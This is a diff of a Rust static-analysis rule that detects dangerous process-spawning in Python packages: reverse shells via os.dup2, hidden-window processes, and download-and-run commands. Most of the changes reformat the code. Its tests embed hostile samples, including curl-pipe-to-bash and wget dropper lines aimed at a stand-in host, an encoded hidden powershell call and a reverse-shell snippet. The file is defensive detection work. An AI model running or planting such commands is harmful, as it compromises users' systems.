@@ -26,13 +26,29 @@ pub fn is_spawn(qualname: &str) -> bool {
     let q = qualname;
     matches!(
         q,
-        "os.system" | "os.popen" | "os.popen2" | "os.popen3" | "os.startfile" | "os.posix_spawn"
-            | "os.posix_spawnp" | "pty.spawn" | "commands.getoutput" | "commands.getstatusoutput"
-            | "asyncio.create_subprocess_shell" | "asyncio.create_subprocess_exec" | "popen2.popen2"
+        "os.system"
+            | "os.popen"
+            | "os.popen2"
+            | "os.popen3"
+            | "os.startfile"
+            | "os.posix_spawn"
+            | "os.posix_spawnp"
+            | "pty.spawn"
+            | "commands.getoutput"
+            | "commands.getstatusoutput"
+            | "asyncio.create_subprocess_shell"
+            | "asyncio.create_subprocess_exec"
+            | "popen2.popen2"
     ) || (q.starts_with("subprocess.")
         && matches!(
             q.trim_start_matches("subprocess."),
-            "Popen" | "run" | "call" | "check_call" | "check_output" | "getoutput" | "getstatusoutput"
+            "Popen"
+                | "run"
+                | "call"
+                | "check_call"
+                | "check_output"
+                | "getoutput"
+                | "getstatusoutput"
         ))
         || (q.starts_with("os.exec") && q.len() <= 10)
         || (q.starts_with("os.spawn") && q.len() <= 11)
@@ -72,14 +88,36 @@ pub fn is_shell_trick(command: &str) -> bool {
 
 /// `os.dup2(sock.fileno(), 0)`: a socket wired to the standard streams is a reverse shell.
 fn check_reverse_shell(checker: &mut Checker, call: &ExprCall) {
-    let Some(first) = call.arguments.args.first() else { return };
-    let source = checker.text.get(first.range().start().to_usize()..first.range().end().to_usize()).unwrap_or("");
-    let from_socket = checker.qualname(first).is_some_and(|q| q.starts_with("socket.") || q.contains("socket()"));
-    if !(source.contains("fileno") && (from_socket || call.arguments.args.get(1).is_some_and(|fd| matches!(checker.fold(fd), Some(crate::fold::Value::Int(0..=2)))))) {
+    let Some(first) = call.arguments.args.first() else {
+        return;
+    };
+    let source = checker
+        .text
+        .get(first.range().start().to_usize()..first.range().end().to_usize())
+        .unwrap_or("");
+    let from_socket = checker
+        .qualname(first)
+        .is_some_and(|q| q.starts_with("socket.") || q.contains("socket()"));
+    if !(source.contains("fileno")
+        && (from_socket
+            || call.arguments.args.get(1).is_some_and(|fd| {
+                matches!(checker.fold(fd), Some(crate::fold::Value::Int(0..=2)))
+            })))
+    {
         return;
     }
-    let severity = if checker.context() == ExecContext::TestOrDocs { 0.3 } else { 0.85 };
-    checker.report(&RULE, call.range(), "os.dup2 wires a socket to the standard streams: a reverse shell".to_owned(), severity, vec!["spawn", "reverse-shell"]);
+    let severity = if checker.context() == ExecContext::TestOrDocs {
+        0.3
+    } else {
+        0.85
+    };
+    checker.report(
+        &RULE,
+        call.range(),
+        "os.dup2 wires a socket to the standard streams: a reverse shell".to_owned(),
+        severity,
+        vec!["spawn", "reverse-shell"],
+    );
 }
 
 /// Process-spawning calls.
@@ -92,7 +130,11 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
         return;
     }
     let context = checker.context();
-    let command_arg = call.arguments.args.first().or_else(|| super::keyword(call, "args"));
+    let command_arg = call
+        .arguments
+        .args
+        .first()
+        .or_else(|| super::keyword(call, "args"));
     let command = command_arg.and_then(|arg| super::command_text(checker, arg));
     let partial = command_arg.and_then(|arg| super::partial_command_text(checker, arg));
     let shown = super::argument_text(checker, call);
@@ -100,12 +142,34 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     let (severity, tags, message) = match (&command, &partial) {
         (None, Some(partial)) if is_dangerous_command(partial) || is_shell_trick(partial) => (
             match context {
-                ExecContext::Install | ExecContext::Import => if is_dangerous_command(partial) { 0.85 } else { 0.5 },
-                ExecContext::Runtime => if is_dangerous_command(partial) { 0.4 } else { 0.1 },
+                ExecContext::Install | ExecContext::Import => {
+                    if is_dangerous_command(partial) {
+                        0.85
+                    } else {
+                        0.5
+                    }
+                }
+                ExecContext::Runtime => {
+                    if is_dangerous_command(partial) {
+                        0.4
+                    } else {
+                        0.1
+                    }
+                }
                 ExecContext::TestOrDocs => 0.1,
             },
-            vec!["spawn", if is_dangerous_command(partial) { "shell-dropper" } else { "shell-trick" }],
-            format!("{qualname} runs `{}` (… = computed at run time)", crate::text::shorten(partial, 160)),
+            vec![
+                "spawn",
+                if is_dangerous_command(partial) {
+                    "shell-dropper"
+                } else {
+                    "shell-trick"
+                },
+            ],
+            format!(
+                "{qualname} runs `{}` (… = computed at run time)",
+                crate::text::shorten(partial, 160)
+            ),
         ),
         _ => classify_command(command.as_ref(), qualname, context, &shown),
     };
@@ -114,14 +178,32 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
 }
 
 /// `creationflags=CREATE_NO_WINDOW` or `DETACHED_PROCESS`: a process the user must not see.
-fn check_hidden_window(checker: &mut Checker, call: &ExprCall, qualname: &str, context: ExecContext) {
-    let Some(flags) = super::keyword(call, "creationflags").or_else(|| super::keyword(call, "startupinfo")) else {
+fn check_hidden_window(
+    checker: &mut Checker,
+    call: &ExprCall,
+    qualname: &str,
+    context: ExecContext,
+) {
+    let Some(flags) =
+        super::keyword(call, "creationflags").or_else(|| super::keyword(call, "startupinfo"))
+    else {
         return;
     };
-    let text = checker.text.get(flags.range().start().to_usize()..flags.range().end().to_usize()).unwrap_or("");
-    if !["CREATE_NO_WINDOW", "DETACHED_PROCESS", "0x08000000", "134217728", "SW_HIDE", "STARTF_USESHOWWINDOW", "startupinfo"]
-        .iter()
-        .any(|flag| text.contains(flag))
+    let text = checker
+        .text
+        .get(flags.range().start().to_usize()..flags.range().end().to_usize())
+        .unwrap_or("");
+    if ![
+        "CREATE_NO_WINDOW",
+        "DETACHED_PROCESS",
+        "0x08000000",
+        "134217728",
+        "SW_HIDE",
+        "STARTF_USESHOWWINDOW",
+        "startupinfo",
+    ]
+    .iter()
+    .any(|flag| text.contains(flag))
     {
         return;
     }
@@ -130,10 +212,24 @@ fn check_hidden_window(checker: &mut Checker, call: &ExprCall, qualname: &str, c
         ExecContext::Runtime => 0.1,
         ExecContext::TestOrDocs => 0.03,
     };
-    checker.report(&RULE, call.range(), format!("{qualname} starts a process with its window hidden ({})", crate::text::shorten(text, 60)), severity, vec!["spawn", "hidden-window"]);
+    checker.report(
+        &RULE,
+        call.range(),
+        format!(
+            "{qualname} starts a process with its window hidden ({})",
+            crate::text::shorten(text, 60)
+        ),
+        severity,
+        vec!["spawn", "hidden-window"],
+    );
 }
 
-fn classify_command(command: Option<&String>, qualname: &str, context: ExecContext, shown: &str) -> (f64, Vec<&'static str>, String) {
+fn classify_command(
+    command: Option<&String>,
+    qualname: &str,
+    context: ExecContext,
+    shown: &str,
+) -> (f64, Vec<&'static str>, String) {
     match command {
         Some(command) if is_dangerous_command(command) => (
             match context {
@@ -142,7 +238,10 @@ fn classify_command(command: Option<&String>, qualname: &str, context: ExecConte
                 ExecContext::TestOrDocs => 0.2,
             },
             vec!["spawn", "shell-dropper"],
-            format!("{qualname} runs `{}`, a download/decode/persistence command", crate::text::shorten(command, 160)),
+            format!(
+                "{qualname} runs `{}`, a download/decode/persistence command",
+                crate::text::shorten(command, 160)
+            ),
         ),
         Some(command) if is_shell_trick(command) => (
             match context {
@@ -151,7 +250,10 @@ fn classify_command(command: Option<&String>, qualname: &str, context: ExecConte
                 ExecContext::TestOrDocs => 0.05,
             },
             vec!["spawn", "shell-trick"],
-            format!("{qualname} runs `{}`, which hides, persists or starts another interpreter", crate::text::shorten(command, 160)),
+            format!(
+                "{qualname} runs `{}`, which hides, persists or starts another interpreter",
+                crate::text::shorten(command, 160)
+            ),
         ),
         Some(command) if command.contains("pip install") || command.contains("pip3 install") => (
             match context {
@@ -159,7 +261,10 @@ fn classify_command(command: Option<&String>, qualname: &str, context: ExecConte
                 _ => 0.05,
             },
             vec!["spawn", "pip-install"],
-            format!("{qualname} installs packages with `{}`", crate::text::shorten(command, 160)),
+            format!(
+                "{qualname} installs packages with `{}`",
+                crate::text::shorten(command, 160)
+            ),
         ),
         Some(command) => (
             match context {
@@ -193,10 +298,13 @@ mod tests {
         assert!(is_dangerous_command("curl -s http://x.invalid/a.sh | bash"));
         assert!(is_dangerous_command("powershell -w hidden -c iwr http://x"));
         assert!(is_shell_trick("powershell.exe -command Get-Clipboard"));
-        assert!(!is_dangerous_command("powershell.exe -command Get-Clipboard"));
+        assert!(!is_dangerous_command(
+            "powershell.exe -command Get-Clipboard"
+        ));
         assert!(!is_dangerous_command("git describe --tags"));
         assert!(!is_dangerous_command("gcc -o foo foo.c"));
-        let code = "import os as o\no.system('wget http://x.invalid/p -O /tmp/p; chmod +x /tmp/p')\n";
+        let code =
+            "import os as o\no.system('wget http://x.invalid/p -O /tmp/p; chmod +x /tmp/p')\n";
         assert!(max_severity("p/setup.py", code, "WH120") >= 0.9);
         let code = "from subprocess import Popen as P\nP(['powershell', '-w', 'hidden', '-enc', 'AAAA'])\n";
         assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.9);
@@ -206,7 +314,10 @@ mod tests {
     fn reverse_shell_is_severe() {
         let code = "import socket, os, pty\ndef go():\n    s = socket.socket()\n    s.connect(('h', 1))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n";
         assert!(max_severity("p/pkg/m.py", code, "WH120") >= 0.85);
-        assert_eq!(max_severity("p/pkg/m.py", "import os\nos.dup2(fd, 5)\n", "WH120"), 0.0);
+        assert_eq!(
+            max_severity("p/pkg/m.py", "import os\nos.dup2(fd, 5)\n", "WH120"),
+            0.0
+        );
     }
 
     #[test]
